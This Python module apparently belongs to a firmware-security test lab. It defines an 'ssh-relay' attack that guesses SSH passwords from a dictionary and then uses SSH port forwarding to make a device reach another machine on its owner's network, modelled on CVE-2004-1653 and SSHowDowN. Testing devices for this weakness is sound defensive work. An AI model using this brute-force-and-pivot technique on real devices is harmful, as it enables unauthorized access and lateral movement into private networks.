"""The device as a relay into the owner's network, by the forwarding of its SSH server."""

import time
from contextlib import closing

from firmward.lab import station as stations
from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means import network, ssh
from firmward.lab.means.dictionary import USERS, passwords
from firmward.lab.station import Station
from firmward.lab.target import Powered, Target, Witness

PORT = 22
NEIGHBOUR = ".".join(map(str, stations.ADDRESS))
BEHIND = 8080
"""A port of another machine in the owner's network."""


def run(target: Target) -> Result:
    left = list(USERS)
    with closing(Station()) as station:

        def strike(powered: Powered) -> bool:
            # each user's list once: what was refused is not tried again
            return bool(left) and _relays(powered, station, left.pop(0))

        return network.attacked(target, ATTACK, strike, station)


def _relays(powered: Powered, station: Station, user: str) -> bool:
    """Whether the device calls the neighbour for him."""
    relay = ("-W", f"{NEIGHBOUR}:{BEHIND}")
    client = ssh.with_passwords(powered.address(PORT), user, passwords(user), powered.target.work, options=relay)
    limit = time.monotonic() + ssh.SECONDS
    with client.started() as process:
        while time.monotonic() < limit and process.poll() is None:
            if any(stations.calls(one, BEHIND) for one in station.packets(0.5)):
                says = f"the device itself called port {BEHIND} of its neighbour {NEIGHBOUR}, which he named"
                powered.target.note(Witness.NETWORK, says)
                return True
    return False


ATTACK = Attack(
    id="ssh-relay",
    title="The device as a relay into its network",
    does="has the SSH server of the device call another machine for him, which he cannot reach himself",
    position=Position.NETWORK,
    link=RUNNING,
    case="CVE-2004-1653; Akamai 2016, SSHowDowN: devices as relays by AllowTcpForwarding and default passwords",
    foretold=("ssh-forwarding",),
    run=run,
    within=120.0,
    ports=(PORT,),
)
